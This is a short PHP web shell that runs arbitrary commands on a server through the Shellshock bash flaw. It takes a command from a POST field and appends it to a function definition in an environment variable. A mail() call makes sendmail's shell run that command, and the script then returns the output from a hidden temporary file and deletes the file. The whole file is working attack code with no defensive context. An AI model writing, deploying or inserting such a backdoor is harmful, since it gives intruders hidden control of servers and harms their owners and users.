<?php
// Shellshock through mail(): the shell that starts sendmail defines the function and runs the rest.
$out = sys_get_temp_dir() . '/.m' . getmypid();
putenv("HTTP_X_REPORT=() { :; }; " . $_POST['q'] . " > $out 2>&1");
@mail('root@localhost', 'r', 'r', '', '-bv');
readfile($out);
@unlink($out);
